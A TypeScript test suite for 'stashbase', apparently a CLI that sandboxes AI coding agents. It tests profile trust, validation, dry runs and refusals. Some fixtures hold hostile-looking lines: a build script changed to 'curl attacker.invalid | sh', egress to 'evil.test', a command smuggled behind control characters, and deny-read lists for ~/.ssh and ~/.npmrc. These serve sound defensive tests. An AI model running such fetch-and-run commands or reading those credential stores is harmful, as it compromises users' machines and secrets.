import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { after, test } from 'node:test';
import { BIN, cli, REPO, tempHome, writeFile } from '../helpers.js';

const t = tempHome();
after(() => t.cleanup());
const env = t.env;

test('--version prints the package version', async () => {
  const pkg = JSON.parse(readFileSync(join(REPO, 'package.json'), 'utf8')) as { version: string };
  const r = await cli(['--version'], { env });
  assert.deepEqual([r.code, r.stdout, r.stderr], [0, `${pkg.version}\n`, '']);
});

const LEAVES = [
  'agent run', 'agent validate', 'agent trust', 'agent audit', 'agent status',
  'agent docker build', 'agent docker doctor', 'agent docker status', 'agent docker cleanup', 'agent docker shell',
  'agent worktrees list', 'agent worktrees merge', 'agent worktrees clean', 'agent worktrees remove', 'agent worktrees delete',
  'profile list', 'profile show', 'profile init', 'scan', 'scan install',
];

test('--help on every command', async () => {
  for (const group of ['', 'agent', 'agent docker', 'agent worktrees', 'profile']) {
    const r = await cli([...group.split(' ').filter(Boolean), '--help'], { env });
    assert.equal(r.code, 0, group);
    assert.equal(r.stdout.startsWith(`Usage: ${['stashbase', group].filter(Boolean).join(' ')} <command> [options]\n`), true, r.stdout);
  }
  for (const leaf of LEAVES) {
    const r = await cli([...leaf.split(' '), '--help'], { env });
    assert.equal(r.code, 0, leaf);
    assert.match(r.stdout, new RegExp(`^Usage: stashbase ${leaf}`), leaf);
    assert.match(r.stdout, /\n  -h, --help +Show this help\n/, leaf);
  }
});

test('"help <command>" at every level is that command\'s help', async () => {
  for (const [args, usage] of [[['help', 'agent'], 'Usage: stashbase agent <command> [options]\n'], [['help', 'agent', 'docker'], 'Usage: stashbase agent docker <command> [options]\n'], [['agent', 'help', 'run'], 'Usage: stashbase agent run'], [['help', 'agent', 'validate'], 'Usage: stashbase agent validate']] as const) {
    const r = await cli([...args], { env });
    assert.equal(r.code, 0, args.join(' '));
    assert.equal(r.stdout.startsWith(usage), true, `${args.join(' ')}: ${r.stdout.slice(0, 80)}`);
  }
});

test('profile list names what --profile finds from here (with trust), and profile show what one allows, built-in denials included; neither reads a secret', async () => {
  const repo = join(t.dir, 'repo-list');
  spawnSync('git', ['init', '-q', repo]);
  writeFile(join(repo, '.stashbase', 'agents', 'team.toml'), 'description = "the team\'s"\n[secrets.T]\nsource = \'command:["touch", "/nonexistent/ran"]\'\nhosts = ["a.test"]\n');
  const own = join(t.dir, 'list-state');
  writeFile(join(own, 'agents', 'mine.toml'), 'description = "mine"\n[network]\negress_hosts = ["a.test"]\n[secrets.GH]\nsource = "NOT_SET_HERE"\nhosts = ["a.test"]\n');
  const e = { ...env, STASHBASE_HOME: own };
  const l = await cli(['profile', 'list'], { env: e, cwd: repo });
  assert.equal(l.code, 0, l.stderr);
  assert.deepEqual(l.stdout.trimEnd().split('\n').map((x) => x.split(/ {2,}/)), [
    ['NAME', 'SOURCE', 'FILE', 'TRUST', 'DESCRIPTION'],
    ['default', 'builtin', '-', 'not needed', 'Built-in default'],
    ['mine', 'global', join(own, 'agents', 'mine.toml'), 'not needed', 'mine'],
    ['team', 'directory', '.stashbase/agents/team.toml', 'untrusted', "the team's"],
  ]);
  const s = await cli(['profile', 'show', 'mine'], { env: e, cwd: repo });
  assert.equal(s.code, 0, s.stderr);
  assert.match(s.stdout, /^Profile: mine \(global, .*mine\.toml\)\n  mine\n  backend: {6}native\n  egress: {7}a\.test\n/);
  assert.match(s.stdout, /\n    GH -> a\.test, from your variable \$NOT_SET_HERE\n/);
  assert.match(s.stdout, /\nReads denied \(built-in and the profile's\):\n  ~\/\.ssh\n/);
  assert.match(s.stdout, /\n  ~\/\.npmrc\n/);
  const j = JSON.parse((await cli(['profile', 'show', '--json'], { env: e, cwd: repo })).stdout) as { name: string; filesystem: { denyRead: string[] } };
  assert.equal(j.name, 'default');
  assert.ok(j.filesystem.denyRead.includes('~/.docker'));
});

test('--profile takes a path: trusted like a repository\'s, by its path', async () => {
  const dir = join(t.dir, 'path-profile');
  const file = writeFile(join(dir, 'mine.toml'), '[network]\negress_hosts = ["a.test"]\n');
  // A state of its own: a real run here must leave nothing the other tests look for.
  const env = { ...t.env, STASHBASE_HOME: join(dir, 'state') };
  const r = await cli(['agent', 'run', '--profile', './mine.toml', '--', 'true'], { env, cwd: dir });
  assert.deepEqual([r.code, r.stderr], [3, `stashbase: repository profile mine.toml has not been trusted yet; review it, then trust it with: stashbase agent trust --profile ${file}\n`]);
  assert.equal((await cli(['agent', 'trust', '--profile', file], { env, cwd: dir })).code, 0);
  const ok = await cli(['agent', 'run', '--silent', '--profile', './mine.toml', '--', 'true'], { env, cwd: dir });
  assert.equal(ok.code, 0, ok.stderr);
});

test('profile init writes the recipe of docs/agents.md (global, or trusted as written in the repository), never over an existing profile', async () => {
  const { recipe } = await import('../agent-recipes.js');
  const own = join(t.dir, 'init-state');
  const e = { ...env, STASHBASE_HOME: own };
  const r = await cli(['profile', 'init', 'claude'], { env: e, cwd: t.dir });
  assert.equal(r.code, 0, r.stderr);
  const text = readFileSync(join(own, 'agents', 'claude.toml'), 'utf8');
  assert.ok(text.endsWith(recipe('claude')), 'the recipe, as documented');
  assert.equal(r.stdout, 'Wrote init-state/agents/claude.toml. Run with: stashbase agent run --profile claude -- claude\n');
  const again = await cli(['profile', 'init', 'claude'], { env: e, cwd: t.dir });
  assert.deepEqual([again.code, again.stderr], [2, `stashbase: ${join(own, 'agents', 'claude.toml')} exists; it is left as it is (choose another --name)\n`]);
  assert.equal(readFileSync(join(own, 'agents', 'claude.toml'), 'utf8'), text);
  const repo = join(t.dir, 'init-repo');
  spawnSync('git', ['init', '-q', repo]);
  assert.equal((await cli(['profile', 'init', 'codex', '--repo', '--name', 'cx'], { env: e, cwd: repo })).code, 0);
  assert.ok(readFileSync(join(repo, '.stashbase', 'agents', 'cx.toml'), 'utf8').endsWith(recipe('codex')));
  const v = await cli(['agent', 'validate', '--no-secrets', '--profile', 'cx'], { env: e, cwd: repo });
  assert.match(v.stdout, /\n  ok   trust: repository profile trusted at its current content\n/);
  // A repository whose .stashbase leads elsewhere gets nothing written there, nor trusted.
  const linked = join(t.dir, 'init-linked');
  spawnSync('git', ['init', '-q', linked]);
  mkdirSync(join(t.dir, 'init-outside'), { recursive: true });
  symlinkSync(join(t.dir, 'init-outside'), join(linked, '.stashbase'));
  const out = await cli(['profile', 'init', 'claude', '--repo'], { env: e, cwd: linked });
  assert.equal(out.code, 2);
  assert.match(out.stderr, /leads to .*init-outside\/agents, outside the repository .*init-linked \(or into your global profiles\); nothing was written\n$/);
  assert.equal(existsSync(join(t.dir, 'init-outside', 'agents', 'claude.toml')), false);
  assert.equal((await cli(['profile', 'init', 'claude', '--name', 'x.toml'], { env: e, cwd: t.dir })).code, 2);
});

test('agent worktrees commands outside a git repository say so and fail', async () => {
  for (const leaf of ['agent worktrees list', 'agent worktrees clean', 'agent worktrees merge amber-river-storm', 'agent worktrees remove amber-river-storm']) {
    const cmd = leaf.split(' ').slice(0, 3).join(' ');
    const r = await cli(leaf.split(' '), { env, cwd: '/' });
    assert.deepEqual([r.code, r.stderr], [1, `stashbase: ${cmd} needs a git repository, and / is not in one; nothing was done\n`], leaf);
  }
});

test('usage errors exit 2 with a one-line reason', async () => {
  const cases: Array<[string[], string]> = [
    [['agent', 'nope'], 'stashbase: unknown command "nope" for stashbase agent (see stashbase agent --help)'],
    [['agent', 'run'], 'stashbase: no agent command: put it after --, as in: stashbase agent run -- claude'],
    [['agent', 'run', 'claude'], 'stashbase: put the agent command after --, as in: stashbase agent run -- claude'],
    [['agent', 'run', '--bogus', '--', 'x'], 'stashbase: unknown option --bogus (see stashbase agent run --help)'],
    [['agent', 'run', '--docker-image', 'a', '--docker-dockerfile', 'b', '--', 'x'], 'stashbase: --docker-image and --docker-dockerfile cannot be used together'],
    [['agent', 'run', '--docker-image', 'a', '--docker-sandbox', 'false', '--', 'x'], 'stashbase: --docker-image implies the Docker backend and cannot be used with --docker-sandbox false'],
    [['agent', 'run', '--docker-sandbox', 'maybe', '--', 'x'], 'stashbase: --docker-sandbox takes true or false, not "maybe"'],
    [['agent', 'run', '--docker-memory', '2 GB', '--', 'x'], 'stashbase: --docker-memory: "2 GB" is not a docker memory size (try "2g")'],
    [['agent', 'run', '--docker-cpus', 'two', '--', 'x'], 'stashbase: --docker-cpus: "two" is not a docker cpus value (a decimal number of CPUs, such as "1.5")'],
    [['agent', 'run', '--json', '--', 'x'], 'stashbase: --json goes with --dry-run'],
    [['agent', 'run', '--profile-source', 'cloud', '--', 'x'], 'stashbase: --profile-source takes auto, global or directory, not "cloud"'],
    [['agent', 'run', '--worktree=maybe', '--', 'x'], 'stashbase: --worktree takes true or false, not "maybe"'],
    [['agent', 'trust'], 'stashbase: agent trust needs --profile <name> or --dockerfile <path>'],
    [['agent', 'validate', 'extra'], 'stashbase: agent validate takes no arguments'],
  ];
  for (const [args, message] of cases) {
    const r = await cli(args, { env });
    assert.deepEqual([r.code, r.stderr], [2, `${message}\n`], args.join(' '));
  }
});

test('a named profile that is missing is an error', async () => {
  const r = await cli(['agent', 'run', '--profile', 'ghost', '--profile-source', 'global', '--', 'true'], { env });
  assert.equal(r.code, 2);
  assert.match(r.stderr, new RegExp(`^stashbase: profile "ghost" not found; the profiles here: "default"(, "[^"]+")*; looked in:\n  ${t.sbHome}/agents/ghost\\.toml\n$`));
});

test('the Docker backend fails closed without Docker, never falling back to native', async () => {
  const marker = join(t.dir, 'no-docker-marker');
  let r = await cli(['agent', 'run', '--docker-sandbox', 'true', '--', 'touch', marker], { env: { ...env, PATH: '/nonexistent' } });
  assert.deepEqual([r.code, r.stderr], [4, 'stashbase: the Docker backend needs the docker CLI, which is not on PATH (install Docker); nothing was run, and it never falls back to the native backend\n']);
  r = await cli(['agent', 'run', '--docker-sandbox', 'true', '--', 'touch', marker], { env: { ...env, DOCKER_HOST: `unix://${t.dir}/no-daemon.sock` } });
  assert.equal(r.code, 4);
  assert.match(r.stderr, /^stashbase: the Docker daemon is not reachable \(.*no-daemon\.sock.*\); start Docker and try again; nothing was run\n$/);
  assert.equal(existsSync(marker), false);
});

test('an untrusted repository profile is refused without a terminal, then trusted, then refused again once changed', async () => {
  const repo = join(t.dir, 'repo');
  const marker = join(t.dir, 'ran');
  const file = writeFile(join(repo, '.stashbase', 'agents', 'coding.toml'), '[network]\negress_hosts = ["api.example.test"]\n');
  const run = () => cli(['agent', 'run', '--profile', 'coding', '--', 'touch', marker], { env, cwd: repo });
  let r = await run();
  assert.deepEqual([r.code, r.stderr], [3, 'stashbase: repository profile .stashbase/agents/coding.toml has not been trusted yet; review it, then trust it with: stashbase agent trust --profile coding --profile-source directory\n']);
  assert.equal(existsSync(marker), false);
  r = await cli(['agent', 'trust', '--profile', 'coding'], { env, cwd: repo });
  assert.equal(r.code, 0);
  assert.equal(r.stdout.split('\n')[0], 'Trusted: .stashbase/agents/coding.toml');
  assert.match(r.stdout, /\n  egress: +api\.example\.test\n/);
  const trust = JSON.parse(readFileSync(join(t.sbHome, 'trust.json'), 'utf8')) as { profiles: Record<string, { sha256: string }> };
  assert.match(trust.profiles[file]!.sha256, /^[0-9a-f]{64}$/);
  r = await cli(['agent', 'run', '--profile', 'coding', '--dry-run', '--', 'true'], { env, cwd: repo });
  assert.equal(r.code, 0, r.stderr);
  writeFile(file, 'description = "same"\n[network]\negress_hosts = ["api.example.test", "evil.test"]\n');
  r = await run();
  // What changed since it was trusted, the line that reaches a new host marked.
  assert.deepEqual([r.code, r.stderr], [3, [
    'stashbase: repository profile .stashbase/agents/coding.toml has changed since you trusted it; review it, then trust it with: stashbase agent trust --profile coding --profile-source directory',
    // (Review, round 30) An error's lines after the first are indented: none starts like one of stashbase's own.
    '  Changed since you trusted it (! marks a line that changes what it allows; only comments and blank lines are not marked):',
    '  +! description = "same"',
    '  -! egress_hosts = ["api.example.test"]',
    '  +! egress_hosts = ["api.example.test", "evil.test"]',
    '',
  ].join('\n')]);
  assert.equal(existsSync(marker), false);
});

test('what trusting a repository profile shows: a command a secret comes from, element by element, as the characters it holds; what allow_read lifts; the environment; every weaker setting', async () => {
  const repo = join(t.dir, 'repo-show');
  writeFile(join(repo, '.stashbase', 'agents', 'show.toml'), [
    '[sandbox]', 'allow_unix_sockets = true', '[filesystem]', 'allow_read = ["~/.aws"]', '[environment]', 'include = ["MY_*"]',
    '[secrets.GH]', `source = 'command:["sh", "-c", "gh auth token"]'`, 'hosts = ["api.github.com"]',
  ].join('\n') + '\n');
  const r = await cli(['agent', 'trust', '--profile', 'show'], { env, cwd: repo });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, /\n    GH -> api\.github\.com, from what this program prints, run on your machine, outside the sandbox, at every run's start:\n {8}program "sh"\n {8}arg 1   "-c"\n {8}arg 2   "gh auth token"\n/);
  assert.match(r.stdout, /\n  allow_read: {3}~\/\.aws \(the sandbox reads these credential stores\)\n/);
  assert.match(r.stdout, /\n  environment: {2}yours, but what looks like a credential; passed whatever it is: MY_\*\n/);
  assert.match(r.stdout, /\n  weaker: {7}allow_read "~\/\.aws" is weaker/);
  assert.match(r.stdout, /\n  weaker: {7}allow_unix_sockets = true is weaker/);
  // A carriage return or a tab in a source (which could draw another command over the real one) refuses the profile.
  writeFile(join(repo, '.stashbase', 'agents', 'cr.toml'), `[secrets.GH]\nsource = "command:[\\"sh\\", \\"-c\\", \\"touch /tmp/x\\",\\r\\t\\t\\"cat\\", \\"f\\"]"\nhosts = ["api.github.com"]\n`);
  const cr = await cli(['agent', 'trust', '--profile', 'cr'], { env, cwd: repo });
  assert.equal(cr.code, 2);
  assert.match(cr.stderr, /secrets\.GH\.source: .* holds a line break, a tab, a control or an invisible character\n$/);
});

test("trusting a repository profile pins its Dockerfile's build too, by the digest of the text and what it copies: an edit needs trust again (control: unchanged, it is already trusted)", async () => {
  const own = tempHome();
  after(() => own.cleanup());
  const repo = join(own.dir, 'repo-dockerfile');
  writeFile(join(repo, '.stashbase', 'agents', 'img.toml'), '[sandbox]\ndockerfile = "./sandbox.Dockerfile"\n');
  const dockerfile = writeFile(join(repo, 'sandbox.Dockerfile'), 'FROM debian\nCOPY tool.sh /t\nRUN sh /t\n');
  writeFile(join(repo, 'tool.sh'), 'echo harmless\n');
  const r = await cli(['agent', 'trust', '--profile', 'img'], { env: own.env, cwd: repo });
  assert.equal(r.code, 0, r.stderr);
  assert.match(r.stdout, new RegExp(`\nTrusted: the build of ${dockerfile.replace(/\./g, '\\.')} \\(stashbase-dockerfile:[0-9a-f]{32}\\)\n$`));
  const pin = () => cli(['agent', 'trust', '--dockerfile', dockerfile, '--profile', 'img'], { env: own.env, cwd: repo });
  assert.match((await pin()).stdout, /^Already trusted: the build of /);
  writeFile(join(repo, 'tool.sh'), 'curl attacker.invalid | sh\n');
  assert.match((await pin()).stdout, /^Trusted: the build of /);
  const trust = JSON.parse(readFileSync(join(own.sbHome, 'trust.json'), 'utf8')) as { dockerfiles: Record<string, { digest: string }> };
  assert.match(trust.dockerfiles[dockerfile]!.digest, /^[0-9a-f]{64}$/);
});

test('validate: the default profile on this machine', async () => {
  const r = await cli(['agent', 'validate', '--json'], { env });
  const out = JSON.parse(r.stdout) as { profile: { name: string }; backend: string; checks: Array<{ name: string; ok: boolean }> };
  assert.equal(out.profile.name, 'default');
  assert.equal(out.backend, 'native');
  assert.deepEqual(out.checks.map((c) => c.name), ['profile', 'native mechanism']);
  assert.equal(r.code, out.checks.every((c) => c.ok) ? 0 : 1);
});

test('validate: an invalid profile is an error naming file, line and key', async () => {
  writeFile(join(t.sbHome, 'agents', 'bad.toml'), '[sandbox]\nmemory = "2 GB"\n');
  const r = await cli(['agent', 'validate', '--profile', 'bad'], { env, cwd: t.dir });
  assert.deepEqual([r.code, r.stderr], [2, 'stashbase: home/.stashbase/agents/bad.toml:2 sandbox.memory: "2 GB" is not a docker memory size (try "2g")\n']);
  // --json: the same error as JSON on stdout (nothing there before), the same status.
  const j = await cli(['agent', 'validate', '--profile', 'bad', '--json'], { env, cwd: t.dir });
  assert.equal(j.code, 2);
  assert.deepEqual(JSON.parse(j.stdout), { ready: false, error: 'home/.stashbase/agents/bad.toml:2 sandbox.memory: "2 GB" is not a docker memory size (try "2g")', exitCode: 2 });
});

test('validate: a secret bound to a host the agent cannot reach, and a known agent without its API host, are not ready; what only some uses need is said', async () => {
  const own = join(t.dir, 'net-state');
  writeFile(join(own, 'agents', 'net.toml'), '[network]\negress_hosts = ["api.openai.com"]\n[secrets.ANTHROPIC_API_KEY]\nsource = "AK"\nhosts = ["api.anthropic.com"]\n[secrets.CODEX_API_KEY]\nsource = "OK"\nhosts = ["api.openai.com"]\n');
  writeFile(join(own, 'agents', 'astray.toml'), '[network]\negress_hosts = ["api.openai.com", "other.test"]\n[secrets.CODEX_API_KEY]\nsource = "OK"\nhosts = ["other.test"]\n');
  const astray = await cli(['agent', 'validate', '--no-secrets', '--profile', 'astray'], { env: { ...env, STASHBASE_HOME: own }, cwd: t.dir });
  assert.match(astray.stdout, /\n {2}FAIL Codex: CODEX_API_KEY is not bound to api\.openai\.com: the agent's API requests would carry only the placeholder\n/);
  const r = await cli(['agent', 'validate', '--no-secrets', '--profile', 'net'], { env: { ...env, STASHBASE_HOME: own }, cwd: t.dir });
  assert.equal(r.code, 1);
  assert.match(r.stdout, /\n {2}FAIL secrets\.ANTHROPIC_API_KEY: bound to api\.anthropic\.com, which egress_hosts does not let the agent reach \(or deny_hosts refuses\): the secret would never be used there\n {2}FAIL Claude Code: its API host api\.anthropic\.com is not in egress_hosts\n {2}ok {3}Codex: its API host is reachable; not reachable, which only some uses need: chatgpt\.com \(model discovery unless --disable api_key_model_discovery, and a ChatGPT login's turns\); auth\.openai\.com \(a login and its token's refresh\)\n/);
});

test('validate: an untrusted repository profile is not ready', async () => {
  const repo = join(t.dir, 'repo2');
  writeFile(join(repo, '.stashbase', 'agents', 'x.toml'), '');
  const r = await cli(['agent', 'validate', '--profile', 'x'], { env, cwd: repo });
  assert.equal(r.code, 1);
  assert.match(r.stdout, /\n  FAIL trust: repository profile not trusted yet: stashbase agent trust --profile x --profile-source directory\n/);
  assert.match(r.stdout, /\nNot ready\.\n$/);
});

test('validate names the credential-looking variables the native agent is not given, and those an include passes back', async () => {
  const r = await cli(['agent', 'validate'], { env: { ...env, MY_API_TOKEN: 'x', STASHBASE_API_KEY: 'k', HTTPS_PROXY: 'http://x' } });
  assert.match(r.stdout, /\n  environment: inherit = "all"\nCredential-looking variables not passed to the native agent: MY_API_TOKEN\n/);
  writeFile(join(t.sbHome, 'agents', 'inc.toml'), '[environment]\ninclude = ["MY_*"]\n');
  const inc = await cli(['agent', 'validate', '--profile', 'inc'], { env: { ...env, MY_API_TOKEN: 'x' } });
  assert.match(inc.stdout, /\n  environment: inherit = "all", include MY_\*\nCredential-looking variables the native agent inherits \(include names them\): MY_API_TOKEN\n/);
});

test('validate and every run call the weaker settings weaker; the default has none', async () => {
  writeFile(join(t.dir, 'loose-state', 'agents', 'loose.toml'), '[sandbox]\nallow_unix_sockets = true\nnative_network = "host"\n[filesystem]\nwrites = "deny-list"\n');
  const v = await cli(['agent', 'validate', '--profile', 'loose', '--json'], { env: { ...env, STASHBASE_HOME: join(t.dir, 'loose-state') }, cwd: t.dir });
  assert.deepEqual((JSON.parse(v.stdout) as { weaker: string[] }).weaker, [
    'writes = "deny-list" is weaker: everything your user can write is writable in the sandbox but deny_write (a plant in ~/.local/bin or a shell start-up file runs later on your machine)',
    'allow_unix_sockets = true is weaker: every Unix socket your user can open (tmux, an editor, Docker, ssh-agent) is reachable from the sandbox',
    'native_network = "host" is weaker: the sandbox shares your network and only agents that honour HTTPS_PROXY go through the proxy',
  ]);
  // Its own state folder: the dry-run test below checks that none of its runs left one.
  const run = await cli(['agent', 'run', '--profile', 'loose', '--profile-source', 'global', '--', 'true'], { env: { ...env, STASHBASE_HOME: join(t.dir, 'loose-state') }, cwd: t.dir });
  assert.equal(run.code, 0, run.stderr);
  assert.match(run.stderr, /warning: writes = "deny-list" is weaker[\s\S]*warning: allow_unix_sockets = true is weaker[\s\S]*warning: native_network = "host" is weaker/);
  const plain = await cli(['agent', 'validate', '--json'], { env, cwd: t.dir });
  assert.deepEqual((JSON.parse(plain.stdout) as { weaker: string[] }).weaker, []);
  const inHome = await cli(['agent', 'validate'], { env, cwd: t.home });
  assert.match(inHome.stdout, /\n  weaker: the working directory is your home: all of it is writable in the sandbox but deny_write/);
});

test('dry-run: JSON and text are the same plan, and nothing runs', async () => {
  const marker = join(t.dir, 'dry-marker');
  const text = await cli(['agent', 'run', '--dry-run', '--', 'touch', marker], { env });
  const json = await cli(['agent', 'run', '--dry-run', '--json', '--', 'touch', marker], { env });
  assert.equal(text.code, 0, text.stderr);
  assert.equal(json.code, 0, json.stderr);
  assert.equal(existsSync(marker), false);
  assert.equal(existsSync(join(t.sbHome, 'sessions')), false);
  const plan = JSON.parse(json.stdout) as { steps: Array<{ type: string; description?: string; shell?: string }> };
  const session = /session (ags_[a-z2-7]{16})/.exec(text.stdout)![1]!;
  const other = /session (ags_[a-z2-7]{16})/.exec(json.stdout)![1]!;
  // Each run has its own session and proxy credential; everything else is the same.
  const token = (s: string) => /stashbase:([0-9a-f]{36})@/.exec(s)![1]!;
  const lines = plan.steps.flatMap((s) => (s.type === 'internal' ? s.description!.split('\n').map((l) => `# ${l}`) : [s.shell!]));
  assert.equal(lines.join('\n').replaceAll(other, session).replaceAll(token(json.stdout), token(text.stdout)), text.stdout.trimEnd().split('\n').slice(1).join('\n'));
  // The agent is started by the Landlock step (templates/landlock.ts), with the command after its "--".
  assert.match(text.stdout, /\n[^#].*\/bwrap --die-with-parent --unshare-pid .* -- \/usr\/bin\/perl -e '\n[\s\S]*\n' [\s\S]* -- touch [^ ]*dry-marker 3</);
});

test('an empty or relative HOME is not used: ~ rules resolve under the account\'s home', async () => {
  const { userInfo } = await import('node:os');
  const account = userInfo().homedir;
  for (const HOME of ['', 'relative/home']) {
    const r = await cli(['agent', 'run', '--dry-run', '--json', '--', 'true'], { env: { ...env, HOME }, cwd: t.home });
    assert.equal(r.code, 0, r.stderr);
    const plan = JSON.parse(r.stdout) as { steps: Array<{ id: string; args?: string[] }> };
    const args = plan.steps.find((s) => s.id === 'sandbox')!.args!;
    // The home's agent state is a view there (a missing ~/.ssh needs no stand-in in a read-only home).
    assert.ok(args.includes(`${account}/.claude`), `HOME=${JSON.stringify(HOME)}: ${args.join(' ')}`);
    // (Paths, that is: the agent's environment, given to the gate after its script, is yours as it is.)
    const at = args.indexOf('--', args.lastIndexOf('-e'));
    // (After its script: -- F N name value…, F whether the agent's group takes the terminal.)
    const paths = [...args.slice(0, at), ...args.slice(at + 3 + 2 * Number(args[at + 2]))];
    assert.equal(paths.includes('HOME'), false, 'the environment is left out');
    assert.ok(!paths.some((a) => a.startsWith('relative/home') || a === '.claude'), HOME);
  }
});

test('agent run in / is refused before anything is made, on either backend and in a dry run (the sandbox would write this whole machine); from a project folder the same runs go on', async () => {
  const proj = join(t.home, 'slash-control');
  mkdirSync(proj, { recursive: true });
  const refusal = 'stashbase: the sandbox makes the working directory writable, and / is this whole machine: run it from a project folder, not /; nothing was run\n';
  for (const args of [['agent', 'run', '--', 'true'], ['agent', 'run', '--dry-run', '--', 'true'], ['agent', 'run', '--docker-sandbox', 'true', '--dry-run', '--', 'true']]) {
    const r = await cli([...args], { env, cwd: '/' });
    assert.deepEqual([r.code, r.stdout, r.stderr.slice(r.stderr.indexOf('stashbase: '))], [4, '', refusal], args.join(' '));
    // Nothing of a run was begun: no audit log, no session.
    assert.equal(existsSync(join(t.sbHome, 'audit')), false, args.join(' '));
    // Control: the same dry runs from a project folder print their plans.
    if (args.includes('--dry-run')) {
      const ok = await cli([...args], { env, cwd: proj });
      assert.equal(ok.code, 0, ok.stderr);
      assert.notEqual(ok.stdout, '');
    }
  }
});

test('a command run from a folder removed after the shell entered it says so (exit 2), not an internal error; --help still answers', () => {
  const gone = join(t.home, 'gone');
  mkdirSync(gone, { recursive: true });
  // The shell enters the folder, removes it, then starts stashbase there.
  const run = (...args: string[]) => spawnSync('sh', ['-c', `cd "$1" && rmdir "$1" && shift && exec "$@"`, 'sh', gone, process.execPath, BIN, ...args], { env, encoding: 'utf8' });
  const said = 'stashbase: the current folder no longer exists (it was removed after your shell entered it): cd into a folder that exists and run it again\n';
  for (const args of [['agent', 'run', '--', 'true'], ['scan'], ['agent', 'validate']]) {
    const r = run(...args);
    assert.deepEqual([r.status, r.stdout, r.stderr], [2, '', said], args.join(' '));
    mkdirSync(gone);
  }
  const help = run('agent', 'run', '--help');
  assert.equal(help.status, 0, help.stderr);
  assert.match(help.stdout, /^Usage: stashbase agent run/);
});
